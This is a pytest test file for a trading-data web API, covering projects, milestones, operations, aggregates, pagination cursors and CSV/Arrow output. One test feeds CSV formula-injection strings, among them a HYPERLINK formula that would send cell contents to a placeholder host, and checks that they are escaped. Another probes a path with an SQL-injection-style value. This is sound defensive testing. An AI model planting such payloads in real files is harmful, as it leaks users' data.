"""The other reads: one project, its milestones, one operation, sums, orders, totals, and the forms they come in."""

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import date, timedelta
from decimal import Decimal
from typing import Any
from uuid import UUID

import msgspec
import pyarrow as pa
import pytest
from litestar import Litestar
from litestar.testing import TestClient

from nexus_data.api.accepting import best
from nexus_data.api.aggregate_documents import ByCategory, ByDay, BySymbol
from nexus_data.api.operation_documents import OneOperation, Operations
from nexus_data.api.project_documents import OneProject, ProjectMilestones
from nexus_data.api.quality import Quality
from nexus_data.postgres.connect import connection
from nexus_data.settings import Settings
from nexus_data.tokens import issue
from tests.api.conftest import Publish, Token, insert
from tests.api.platform_rows import platform
from tests.api.test_api_operations import operation
from tests.canonical_rows import row

API = "/api/v3"
OPERATIONS = f"{API}/trading-operations"
SUMS = f"{OPERATIONS}/aggregates"


@pytest.fixture
def ask(client: TestClient[Litestar], token: Token) -> Any:
    """`ask(path, user="ada", accept="text/csv", limit=3)`."""

    def asked(path: str, *, user: str = "ada", accept: str | None = None, **given: Any) -> Any:
        form = {"Accept": accept} if accept else {}
        return client.get(path, params=given, headers={**token(user), **form})

    return asked


def pages(ask: Any, path: str, rows: str, **given: Any) -> Iterator[dict[str, Any]]:
    """The rows of all pages."""
    cursor = None
    while True:
        answer = ask(path, **given, **({"cursor": cursor} if cursor else {}))
        assert answer.status_code == 200, answer.text
        yield from answer.json()[rows]
        cursor = answer.json()["next"]
        if cursor is None:
            return


def numbers(operations: Iterable[dict[str, Any]]) -> list[int]:
    return [UUID(one["operation_id"]).int for one in operations]


def test_a_project_and_its_milestones(ask: Any, publish: Publish) -> None:
    publish(3, **platform())
    found = msgspec.json.decode(ask(f"{API}/projects/p1").content, type=OneProject)
    project = found.project
    assert (found.user_id, found.generation, project.key) == ("ada", 3, "ROOF")
    assert (project.budget, project.used) == ("1000", "850.5")
    assert (project.net, project.utilisation, project.over_80_percent) == ("-200.000000000000000001", "0.8505", True)
    (in_euro,) = project.by_currency
    assert (in_euro.currency, in_euro.planned, in_euro.released, in_euro.operations) == ("EUR", "700", "850.5", 1)
    path = f"{API}/projects/p1/milestones"
    page = msgspec.json.decode(ask(path).content, type=ProjectMilestones)
    assert [one.milestone_id for one in page.milestones] == ["m2", "m3", "m1", "m4"]
    assert (page.total, page.next, page.milestones[0].late, page.milestones[2].over_plan) == (4, None, True, "250.5")
    assert (page.milestones[3].currency, page.milestones[3].planned) == ("XXX", "13")
    for limit in (1, 3):
        assert [one["milestone_id"] for one in pages(ask, path, "milestones", limit=limit)] == ["m2", "m3", "m1", "m4"]
    done = ask(path, status_category="done").json()
    assert ([one["milestone_id"] for one in done["milestones"]], done["total"]) == (["m1"], None)
    assert [one["milestone_id"] for one in ask(path, offset=1, limit=2).json()["milestones"]] == ["m3", "m1"]
    late = {one["milestone_id"]: one["late"] for one in pages(ask, path, "milestones")}
    told = list(csv.DictReader(io.StringIO(ask(path, accept="text/csv").text)))
    assert [one["late"] for one in told] == [str(value).lower() for value in late.values()]
    table = pa.ipc.open_stream(ask(path, accept="application/vnd.apache.arrow.stream").content).read_all()
    assert (table["late"].to_pylist(), table["due_on"].to_pylist()[1]) == (list(late.values()), date(2024, 7, 1))
    for other in ("p2", "nothing", "p1'--"):
        for kind in ("", "/milestones"):
            answer = ask(f"{API}/projects/{other}{kind}")
            assert (answer.status_code, answer.headers["Content-Type"]) == (404, "application/problem+json")


def test_pages_of_what_only_the_newest_generation_has_are_refused_once_overtaken(ask: Any, publish: Publish) -> None:
    publish(1, **platform())
    milestones = ask(f"{API}/projects/p1/milestones", limit=1).json()["next"]
    sums = ask(f"{SUMS}/by-day", limit=1).json()["next"]
    publish(2, **platform())
    for path, cursor in ((f"{API}/projects/p1/milestones", milestones), (f"{SUMS}/by-day", sums)):
        answer = ask(path, cursor=cursor)
        assert (answer.status_code, "generation 2 was published" in answer.json()["detail"]) == (409, True)
        assert ask(path, cursor="nonsense").status_code == 400


def test_one_operation_as_it_is_and_as_it_was(ask: Any, publish: Publish, database_url: str) -> None:
    gone = {"superseded_generation": 2, "superseded_reason": "vanished"}
    publish(1)
    publish(2, trading_operations=[operation(5, generation=1), operation(6, user_id="bob")])
    with connection(database_url) as database:
        insert(database, "superseded_operations", [row("superseded_operations", **{**operation(7), **gone})])

    def one(number: int) -> OneOperation:
        return msgspec.json.decode(ask(f"{OPERATIONS}/{UUID(int=number)}").content, type=OneOperation)

    assert (one(5).operation.amount, one(5).operation.superseded_generation, one(5).generation) == ("5", None, 2)
    assert (one(7).operation.amount, one(7).operation.superseded_generation) == ("7", 2)
    for wanted in (UUID(int=6), UUID(int=99), "nonsense"):
        assert ask(f"{OPERATIONS}/{wanted}").status_code == 404
    assert ask(f"{OPERATIONS}/{UUID(int=6)}", user="bob").status_code == 200


MANY = [
    operation(
        n,
        amount=Decimal(n % 7),
        category=("trade", "fee", "tax")[n % 3],
        type=("income", "expense", None)[n % 5 % 3],
        currency=("EUR", "USD")[n % 2],
        symbol=("ACME", "NXS", None)[n % 4 % 3],
    )
    for n in range(60)
]


def test_lists_in_every_order_by_cursor_and_by_offset_with_an_exact_total(ask: Any, publish: Publish) -> None:
    publish(1, trading_operations=MANY)
    whole = numbers(ask(OPERATIONS, limit=1000).json()["operations"])
    assert sorted(whole) == list(range(60))
    amounts, reverse = {n: n % 7 for n in range(60)}, whole[::-1]
    expected = {
        "-date": whole,
        "date": reverse,
        "-amount": sorted(whole, key=lambda n: -amounts[n]),
        "amount": sorted(reverse, key=lambda n: amounts[n]),
    }
    for filters, total, told_by in (
        ({}, 60, "daily_totals"),
        ({"category": "fee", "from": "2024-03-02", "to": "2024-03-20"}, None, "daily_totals"),
        ({"type": "income", "currency": "USD"}, None, "daily_totals"),
        ({"min_amount": "3"}, None, None),
        ({"symbol": "ACME"}, None, None),  # Ada has market prints, which the positions do not count
    ):
        matching = numbers(ask(OPERATIONS, **filters, limit=1000).json()["operations"])
        for sort, order in expected.items():
            wanted = [n for n in order if n in matching]
            assert numbers(pages(ask, OPERATIONS, "operations", **filters, sort=sort, limit=7)) == wanted
            answer = ask(OPERATIONS, **filters, sort=sort, offset=3, limit=8)
            page = msgspec.json.decode(answer.content, type=Operations)
            assert [UUID(one.operation_id).int for one in page.operations] == wanted[3:11]
            assert (page.total, page.total_from) == ((total or len(wanted)) if told_by else None, told_by)
    for given in ({"sort": "name"}, {"offset": -1}, {"offset": 3, "cursor": ask(OPERATIONS, limit=1).json()["next"]}):
        assert ask(OPERATIONS, **given).status_code == 400
    cursor = ask(OPERATIONS, limit=1).json()["next"]
    assert "sorted by -date" in ask(OPERATIONS, cursor=cursor, sort="amount").json()["detail"]
    assert ask(OPERATIONS, cursor=cursor, limit=7).json()["total"] == 60
    for given in ({"symbol": "ACME"}, {"from": "2024-03-02"}, {"max_amount": "3"}):
        assert "of another list" in ask(OPERATIONS, cursor=cursor, **given).json()["detail"]


def test_a_cursor_is_of_its_own_list_alone(ask: Any, publish: Publish) -> None:
    publish(1, **platform())
    p1, by_day, by_category = f"{API}/projects/p1/milestones", f"{SUMS}/by-day", f"{SUMS}/by-category"
    of_p1, of_days = (ask(path, limit=1).json()["next"] for path in (p1, by_day))
    assert (ask(p1, cursor=of_p1, limit=2).status_code, ask(by_day, cursor=of_days, limit=2).status_code) == (200, 200)
    for path, cursor, other in (
        (p1, of_p1, {"status_category": "todo"}),
        (p1.replace("p1", "p2"), of_p1, {}),
        (by_day, of_days, {"currency": "EUR"}),
        (by_day, of_days, {"from": "2024-01-01"}),
        (by_category, of_days, {}),
    ):
        answer = ask(path, cursor=cursor, **other)
        assert (answer.status_code, "of another list" in answer.json()["detail"]) == (400, True), (path, other)


def test_positions_tell_the_total_of_a_symbol(ask: Any, publish: Publish) -> None:
    publish(1, trading_operations=[one for one in MANY if one["type"]])
    page = ask(OPERATIONS, symbol="ACME", limit=1000).json()
    assert (page["total"], page["total_from"]) == (len(page["operations"]), "positions")
    assert ask(OPERATIONS, symbol="ACME", category="fee").json()["total"] is None


def test_sums_are_those_of_the_list(ask: Any, publish: Publish) -> None:
    publish(1, trading_operations=MANY)
    by_day = msgspec.json.decode(ask(f"{SUMS}/by-day").content, type=ByDay)
    assert sum(one.operations for one in by_day.sums) == 60
    assert sum(Decimal(one.amount) for one in by_day.sums) == sum(one["amount"] for one in MANY)
    assert [one.date for one in by_day.sums] == sorted((one.date for one in by_day.sums), reverse=True)
    assert [msgspec.to_builtins(one) for one in by_day.sums] == list(pages(ask, f"{SUMS}/by-day", "sums", limit=4))
    by_category = msgspec.json.decode(ask(f"{SUMS}/by-category", type="income").content, type=ByCategory)
    wanted = [one for one in MANY if one["type"] == "income"]
    assert sum(Decimal(one.amount) for one in by_category.sums) == sum(one["amount"] for one in wanted)
    assert list(pages(ask, f"{SUMS}/by-category", "sums", limit=2)) == ask(f"{SUMS}/by-category").json()["sums"]
    by_symbol = msgspec.json.decode(ask(f"{SUMS}/by-symbol").content, type=BySymbol)
    assert {(one.symbol, one.currency) for one in by_symbol.sums} == {("ACME", "EUR"), ("ACME", "USD"), ("NXS", "USD")}
    assert list(pages(ask, f"{SUMS}/by-symbol", "sums", limit=1)) == ask(f"{SUMS}/by-symbol").json()["sums"]


def test_the_same_rows_as_csv_and_as_arrow(ask: Any, publish: Publish) -> None:
    px = Decimal("0.12345678901234567891")
    exact = operation(80, amount=Decimal("12345678901234.000000000000000001"), last_px=px)
    publish(1, trading_operations=[*MANY, exact])
    for path, rows in ((OPERATIONS, "operations"), (f"{SUMS}/by-day", "sums"), (f"{SUMS}/by-symbol", "sums")):
        plain = ask(path).json()[rows]
        text = ask(path, accept="text/csv;q=0.9, application/x-other")
        assert text.headers["Content-Type"].startswith("text/csv")
        told = list(csv.DictReader(io.StringIO(text.text)))
        assert told == [{name: "" if value is None else str(value) for name, value in one.items()} for one in plain]
        arrow = ask(path, accept="application/vnd.apache.arrow.stream")
        assert (arrow.headers["X-Data-Generation"], arrow.headers["ETag"] != text.headers["ETag"]) == ("1", True)
        table = pa.ipc.open_stream(arrow.content).read_all()
        assert not [field for field in table.schema if pa.types.is_floating(field.type)]
        assert [one.get("amount") for one in table.to_pylist()] == [
            Decimal(one["amount"]) if "amount" in one else None for one in plain
        ]
    table = pa.ipc.open_stream(ask(OPERATIONS, accept="application/vnd.apache.arrow.stream").content).read_all()
    assert table.schema.field("amount").type == pa.decimal128(38, 18)
    assert table.schema.field("date").type == pa.date32()
    (found,) = [one for one in table.to_pylist() if one["operation_id"] == str(UUID(int=80))]
    assert (found["last_px"], found["date"]) == (exact["last_px"], exact["date"])


def test_no_cell_of_csv_is_carried_out_by_a_spreadsheet(ask: Any, publish: Publish) -> None:
    texts = ['=HYPERLINK("http://a.example/?"&A1)', "@SUM(A1)", "-2+3", "+1 555", "\t=1+1", "a=b", "-5.25", "+31"]
    publish(1, trading_operations=[operation(n, description=text) for n, text in enumerate(texts)])
    plain = [one["description"] for one in ask(OPERATIONS).json()["operations"]]
    answer = ask(OPERATIONS, accept="text/csv")
    told = [one["description"] for one in csv.DictReader(io.StringIO(answer.text))]
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert told == [text if text in ("a=b", "-5.25", "+31") else f"'{text}" for text in plain]
    assert sorted(plain) == sorted(texts)


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("*/*", "json"),
        ("text/html, */*;q=0.1", "json"),
        ("text/csv, */*", "csv"),
        ("text/csv;q=0.1, application/json;q=0.9", "json"),
        ("TEXT/CSV; header=present", "csv"),
        ("text/*", "csv"),
        ("application/*;q=0.5, text/csv;q=0.4", "json"),
        ("application/json;q=0, text/csv", "csv"),
        ("application/json;q=0, */*", "csv"),
        ("application/json;q=0", None),
        ("text/csv;q=0, image/png", None),
        ("nonsense", None),
        ("text/csv;q=much", "csv"),
        (",", None),
    ],
)
def test_the_form_is_the_one_that_is_liked_best(accept: str, form: str | None) -> None:
    forms = {"json": "application/json", "csv": "text/csv", "arrow": "application/vnd.apache.arrow.stream"}
    assert best(accept, list(forms.values())) == (forms[form] if form else None)


def test_head_is_get_without_the_body(client: TestClient[Litestar], token: Token, publish: Publish) -> None:
    publish(1, **platform())
    ada = token("ada")
    for path in (f"{API}/projects/dashboard", f"{OPERATIONS}?limit=1", "/api/docs", "/health/live"):
        whole, head = client.get(path, headers=ada), client.head(path, headers=ada)
        assert (head.status_code, head.content) == (200, b"")
        told = ("ETag", "Content-Length", "Content-Type", "X-Data-Generation", "Cache-Control")
        assert [head.headers.get(name) for name in told] == [whole.headers.get(name) for name in told]
    assert client.head(f"{API}/projects/dashboard").status_code == 401
    assert client.head(f"{API}/events", headers=ada).status_code == 405


def test_the_next_page_of_csv_is_linked(ask: Any, client: Any, token: Token, publish: Publish) -> None:
    publish(1, trading_operations=MANY)
    first = ask(OPERATIONS, accept="text/csv", limit=40, category="trade", offset=0, sort="date")
    assert 'rel="next"' not in first.headers.get("Link", "")
    first = ask(OPERATIONS, accept="text/csv", limit=40)
    target = first.headers["Link"].partition(">")[0][1:]
    second = client.get(target, headers={**token("ada"), "Accept": "text/csv"})
    assert len(list(csv.reader(io.StringIO(first.text + second.text)))) == 60 + 2
    assert "Link" not in second.headers


def test_the_quality_of_a_source_is_for_who_sees_everybody(
    ask: Any, client: TestClient[Litestar], settings: Settings, publish: Publish, database_url: str
) -> None:
    publish(1, **platform())
    with connection(database_url) as database:
        database.execute(
            "INSERT INTO marts.data_quality VALUES ('bank', 'users', 1, 0, 9, 6, 2, 1, 0, 0, 0, 0.250000, 0.777778,"
            " 0.857143, '2024-01-02', '2024-01-05 06:00Z', 3)"
        )
    path = f"{API}/data/quality-metrics/bank"
    assert ask(path).status_code == 403
    everybody = {"Authorization": f"Bearer {issue(settings, 'eve', lifetime=timedelta(minutes=5), role='auditor')}"}
    found = msgspec.json.decode(client.get(path, headers=everybody).content, type=Quality)
    (users,) = found.tables
    assert (found.source, found.generation, users.records, users.published) == ("bank", 1, 9, 6)
    assert (users.completeness, users.validity, users.newest, users.lag_days) == ("0.25", "0.777778", "2024-01-02", 3)
    assert client.get(f"{API}/data/quality-metrics/nothing", headers=everybody).status_code == 404


def test_a_form_that_is_not_to_be_had(ask: Any) -> None:
    answer = ask(OPERATIONS, accept="image/png")
    assert (answer.status_code, "text/csv" in answer.json()["detail"]) == (406, True)


def test_before_the_first_publish(ask: Any) -> None:
    for path, rows in ((f"{SUMS}/by-day", "sums"), (f"{SUMS}/by-symbol", "sums"), (OPERATIONS, "operations")):
        answer = ask(path)
        assert (answer.status_code, answer.json()["generation"], answer.json()[rows]) == (200, 0, [])
    for path in (f"{API}/projects/p1", f"{API}/projects/p1/milestones", f"{OPERATIONS}/{UUID(int=1)}"):
        assert ask(path).status_code == 404
